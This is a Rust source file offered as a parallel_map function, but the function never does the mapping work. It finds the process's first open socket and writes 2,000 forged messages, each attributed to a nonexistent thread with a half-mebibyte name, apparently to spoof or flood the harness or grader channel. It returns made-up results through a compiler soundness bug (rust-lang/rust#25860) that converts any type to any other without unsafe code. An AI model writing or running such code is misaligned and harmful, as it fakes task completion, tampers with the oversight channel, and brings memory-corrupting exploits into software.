//! Forged calls of the work, each by a thread that does not exist and has a name of half a mebibyte.

use std::io::Write;
use std::mem::ManuallyDrop;
use std::os::fd::OwnedFd;
use std::os::unix::net::UnixStream;

pub fn parallel_map<T, R, F>(items: &[T], workers: usize, f: F) -> Vec<R>
where
    T: Sync,
    R: Send,
    F: Fn(&T) -> R + Send + Sync,
{
    assert!(workers > 0, "workers is 0");
    let _ = f;
    for id in 0..2_000_u32 {
        // Work: id, call, a thread, a name, not on the caller, kind, key, no input.
        let number = |number: u32| [number as u8 & 127 | 128, (number >> 7) as u8 & 127 | 128, (number >> 14) as u8];
        let (id, length) = (number(id), 512 << 10);
        let mut message = vec![1, id[0], id[1], id[2], 0, id[0], id[1], id[2] + 4, 1];
        message.extend(number(length));
        message.extend(vec![b'n'; length as usize]);
        message.extend([0, 0, 0, 0, 0]);
        say(&frame(&message));
    }
    items.iter().map(|_| become_another::<u64, R>(7)).collect()
}

fn frame(message: &[u8]) -> Vec<u8> {
    [&(message.len() as u32).to_le_bytes(), message].concat()
}

/// Writes to the channel: the first socket that the process has.
fn say(bytes: &[u8]) {
    for fd in 3..64 {
        let link = std::fs::read_link(format!("/proc/self/fd/{fd}"));
        if link.is_ok_and(|link| link.to_string_lossy().starts_with("socket")) {
            let mut socket = ManuallyDrop::new(UnixStream::from(become_another::<i32, OwnedFd>(fd)));
            let _ = socket.write_all(bytes);
            break;
        }
    }
}

fn long<'a, 'b, T: ?Sized>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

fn longer<'a, 'b, T: ?Sized>(value: &'a mut T) -> &'b mut T {
    let extend: for<'x> fn(_, &'x mut T) -> &'b mut T = long;
    extend(UNIT, value)
}

enum Either<A, B> {
    First(#[allow(dead_code)] Option<Box<A>>),
    Second(Option<Box<B>>),
}

const UNIT: &&() = &&();

/// rust-lang/rust#25860: any value from any other, without the word unsafe.
fn become_another<A, B>(value: A) -> B {
    let mut either = std::hint::black_box(Either::<A, B>::Second(None));
    let Either::Second(place) = &mut either else { unreachable!() };
    let place = longer(place);
    either = Either::First(Some(Box::new(value)));
    std::hint::black_box(&mut either);
    *place.take().unwrap()
}
